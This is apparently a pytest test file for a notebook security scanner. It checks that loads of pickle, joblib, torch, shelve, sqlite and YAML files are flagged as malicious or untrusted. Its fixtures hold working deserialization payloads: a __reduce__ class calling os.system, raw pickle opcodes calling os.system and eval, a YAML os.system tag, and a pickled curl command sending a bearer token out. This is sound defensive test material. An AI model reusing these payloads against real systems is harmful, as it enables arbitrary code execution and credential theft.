"""The files that loads read, inspected where they lie beside the notebook."""

from __future__ import annotations

import base64
import dbm.dumb
import json
import os
import pickle
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from stsec_magic import check
from stsec_magic.model.config import Config
from stsec_magic.model.report import Report
from tests.credentials import fill
from tests.notebooks_in_memory import code, notebook

IMPORTS = (
    "import base64, joblib, os, pickle, shelve, sqlite3, torch, yaml\nimport pandas as pd\nfrom pathlib import Path\n"
)


class Runs:
    """What an attacker's class does; never loaded here."""

    def __init__(self, command: str = "id") -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


EVIL = pickle.dumps({"model": Runs()})
GOOD = pickle.dumps({"model": [1, 2.5, "x"]})
OWN = b"c__main__\nModel\n)R."


def checked(folder: Path, *sources: str, config: Config | None = None) -> Report:
    path = folder / "nb.ipynb"
    path.write_text(json.dumps(notebook(code(IMPORTS), *(code(source) for source in sources))))
    return check(path, config)


def rows(report: Report) -> list[tuple[str, str, Any]]:
    return [(each.rule, each.severity.value, each.properties.get("verdict")) for each in report.findings]


BAD = [("malicious-artifact", "high", "malicious")]


@pytest.mark.parametrize(
    "source",
    [
        "pickle.load(open('m.pkl', 'rb'))",
        "with open('m.pkl', 'rb') as f:\n    m = pickle.load(f)",
        "joblib.load('m.pkl')",
        "pd.read_pickle('./m.pkl')",
        "torch.load(Path('.') / 'm.pkl', weights_only=False)",
        "name = 'm.pkl'\npickle.load(open(name, 'rb'))",
        "pickle.loads(Path('m.pkl').read_bytes())",
        "for name in ['good.pkl', 'm.pkl']:\n    joblib.load(name)",
        "pickle.load(open('file.pkl' if x else 'm.pkl', 'rb'))",
    ],
)
def test_a_malicious_file_is_told_at_its_load(tmp_path: Path, source: str) -> None:
    (tmp_path / "m.pkl").write_bytes(EVIL)
    (tmp_path / "good.pkl").write_bytes(GOOD)
    report = checked(tmp_path, source)
    assert rows(report) == BAD
    (finding,) = report.findings
    assert "os.system('id')" in finding.message
    assert finding.properties["sink"]
    (related,) = [each for each in finding.related if each.cell is None]
    assert related.path.endswith("m.pkl")
    assert "os.system('id')" in related.message


def test_every_call_is_related(tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(b"cos\nsystem\n(S'a'\ntR0cbuiltins\neval\n(S'b'\ntR.")
    (finding,) = checked(tmp_path, "joblib.load('m.pkl')").findings
    told = [each.message for each in finding.related]
    assert any("os.system('a')" in each for each in told)
    assert any("builtins.eval('b')" in each for each in told)


@pytest.mark.parametrize(
    ("data", "severity", "verdict", "words"),
    [
        (GOOD, "low", "clean", "m.pkl is clean: it only holds plain data"),
        (OWN, "medium", "unknown", "m.pkl asks for __main__.Model, which no list of ours has"),
        (b"cbuiltins\ngetattr\n(S'a'\nS'b'\ntR.", "medium", "suspicious", "m.pkl calls builtins.getattr('a', 'b')"),
        (GOOD[:-4], "medium", "unreadable", "m.pkl couldn't be inspected"),
        (b"", "medium", "unreadable", "it is empty"),
    ],
)
def test_any_other_verdict_is_told_by_the_load(
    tmp_path: Path, data: bytes, severity: str, verdict: str, words: str
) -> None:
    (tmp_path / "m.pkl").write_bytes(data)
    report = checked(tmp_path, "pickle.load(open('m.pkl', 'rb'))")
    assert rows(report) == [("untrusted-load", severity, verdict)]
    assert words in report.findings[0].message
    assert [each.kind.value for each in report.problems] == ["artifact-unreadable"] * (verdict == "unreadable")


def test_of_several_files_the_worst_counts(tmp_path: Path) -> None:
    (tmp_path / "a.pkl").write_bytes(GOOD)
    (tmp_path / "b.pkl").write_bytes(OWN)
    assert rows(checked(tmp_path, "for n in ['a.pkl', 'b.pkl']:\n    joblib.load(n)")) == [
        ("untrusted-load", "medium", "unknown")
    ]


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("import requests\npickle.loads(open('a.pkl', 'rb').read() if x else requests.get(u).content)", "high"),
        ("joblib.load('a.pkl' if x else 'not_here.pkl')", "medium"),
        ("for n in ['a.pkl', 'not_here.pkl']:\n    joblib.load(n)", "medium"),
        ("joblib.load('a.pkl' if x else name)", "medium"),
        ("for n in ['a.pkl', 'b.pkl']:\n    joblib.load(n)", "low"),
        ("!wget https://example.org/a.pkl\njoblib.load('a.pkl')", "low"),
    ],
)
def test_a_clean_file_vouches_for_itself_alone(tmp_path: Path, source: str, severity: str) -> None:
    (tmp_path / "a.pkl").write_bytes(GOOD)
    (tmp_path / "b.pkl").write_bytes(GOOD)
    verdict = "clean" if severity == "low" else None
    assert rows(checked(tmp_path, source)) == [("untrusted-load", severity, verdict)]


def test_a_file_that_is_not_there_changes_nothing(tmp_path: Path) -> None:
    report = checked(tmp_path, "joblib.load('m.pkl')")
    assert rows(report) == [("untrusted-load", "medium", None)]
    assert report.problems == ()


def test_what_is_downloaded_and_lies_there_is_inspected(tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(EVIL)
    assert rows(checked(tmp_path, "!wget https://example.org/m.pkl", "joblib.load('m.pkl')")) == BAD


def test_the_bytes_of_a_cell_are_inspected(tmp_path: Path) -> None:
    evil, good, own = (base64.b64encode(each).decode() for each in (EVIL, GOOD, OWN))
    assert rows(checked(tmp_path, f"pickle.loads(base64.b64decode('{evil}'))")) == BAD
    assert rows(checked(tmp_path, f"blob = '{evil}'", "pickle.loads(base64.b64decode(blob))")) == BAD
    assert rows(checked(tmp_path, f"pickle.loads({EVIL!r})")) == BAD
    assert rows(checked(tmp_path, f"pickle.loads(bytes.fromhex('{EVIL.hex()}'))")) == BAD
    assert rows(checked(tmp_path, f"pickle.loads(base64.b64decode('{good}'))")) == [("untrusted-load", "low", "clean")]
    assert rows(checked(tmp_path, f"pickle.loads(base64.b64decode('{own}'))")) == [
        ("untrusted-load", "medium", "unknown")
    ]


def test_a_database_a_shelf_a_folder_and_yaml(tmp_path: Path) -> None:
    con = sqlite3.connect(tmp_path / "x.db")
    con.execute("create table t (k, b)")
    con.execute("insert into t values (1, ?)", (EVIL,))
    con.commit()
    con.close()
    with dbm.dumb.open(str(tmp_path / "shelf"), "c") as shelf:
        shelf[b"k"] = EVIL
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "model.pkl").write_bytes(EVIL)
    (tmp_path / "c.yml").write_text("a: !!python/object/apply:os.system ['id']\n")
    (tmp_path / "d.yml").write_text("a: [1, 2]\n")
    query = "db = sqlite3.connect('x.db')\nrow = db.execute('select b from t').fetchone()\npickle.loads(row[0])"
    assert rows(checked(tmp_path, query)) == BAD
    assert rows(checked(tmp_path, "with shelve.open('shelf') as s:\n    s['k']")) == BAD
    assert rows(checked(tmp_path, "import mlflow\nmlflow.sklearn.load_model('model')")) == BAD
    assert rows(checked(tmp_path, "yaml.load(open('c.yml'), Loader=yaml.Loader)")) == BAD
    assert rows(checked(tmp_path, "yaml.load(open('d.yml'), Loader=yaml.Loader)")) == [
        ("untrusted-load", "low", "clean")
    ]


def test_further_folders_may_be_named(tmp_path: Path) -> None:
    (tmp_path / "deep" / "models").mkdir(parents=True)
    (tmp_path / "deep" / "models" / "m.pkl").write_bytes(EVIL)
    config = Config(artifact_roots=(str(tmp_path / "deep"),))
    assert rows(checked(tmp_path, "joblib.load('models/m.pkl')")) == [("untrusted-load", "medium", None)]
    assert rows(checked(tmp_path, "joblib.load('models/m.pkl')", config=config)) == BAD
    # A path of the machine that the notebook ran on, known by its end.
    assert rows(checked(tmp_path, "joblib.load('/content/drive/models/m.pkl')", config=config)) == BAD


@pytest.mark.parametrize(
    "path", ["https://example.org/m.pkl", "s3://bucket/m.pkl", "//server/share/m.pkl", "\\\\\\\\srv\\\\m.pkl"]
)
def test_other_machines_are_not_looked_at(tmp_path: Path, path: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("stsec_magic.artifacts.paths.candidates", lambda path: pytest.fail(f"looked at {path}"))
    checked(tmp_path, f"joblib.load('{path}')")


@pytest.mark.parametrize("source", ["joblib.load('pipe')", "joblib.load('/dev/zero')", "joblib.load('nul\\0l')"])
def test_what_is_no_file_is_a_problem_and_nothing_waits(tmp_path: Path, source: str) -> None:
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe")
    report = checked(tmp_path, source)
    assert [each.rule for each in report.findings] == ["untrusted-load"]


def test_a_comment_on_the_load_does_not_silence_the_file(tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(EVIL)
    report = checked(tmp_path, "joblib.load('m.pkl')  # stsec: ignore[untrusted-load]")
    assert [(each.rule, each.suppressed) for each in report.findings] == [("malicious-artifact", None)]
    report = checked(tmp_path, "joblib.load('m.pkl')  # stsec: ignore[malicious-artifact]")
    assert [each.suppressed is not None for each in report.findings] == [True]


def test_selected_alone_the_load_still_speaks(tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(EVIL)
    loads = Config(select=frozenset(("loads",)))
    artifacts = Config(select=frozenset(("artifacts",)))
    assert rows(checked(tmp_path, "joblib.load('m.pkl')", config=loads)) == [("untrusted-load", "high", "malicious")]
    assert rows(checked(tmp_path, "joblib.load('m.pkl')", config=artifacts)) == BAD


def test_no_secret_leaves_with_a_call(tmp_path: Path) -> None:
    key = fill("sk-proj-{alnum:74}T3BlbkFJ{alnum:74}")
    password = fill("{alnum:24}")
    (tmp_path / "m.pkl").write_bytes(
        pickle.dumps(
            [Runs(f"curl -H 'Authorization: Bearer {key}' https://example.org"), Runs(f"x --password {password}")]
        )
    )
    report = checked(tmp_path, "joblib.load('m.pkl')")
    text = json.dumps(report.to_dict()) + repr(report)
    assert key not in text
    assert key[20:60] not in text
    assert password not in text
    assert "os.system" in text


def test_hits_of_a_notebook_in_memory_look_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "m.pkl").write_bytes(EVIL)
    found = check(notebook(code(IMPORTS), code("joblib.load('m.pkl')")))
    assert rows(found) == [("untrusted-load", "medium", None)]
    found = check(notebook(code(IMPORTS), code("joblib.load('m.pkl')")), Config(artifact_roots=(".",)))
    assert rows(found) == BAD
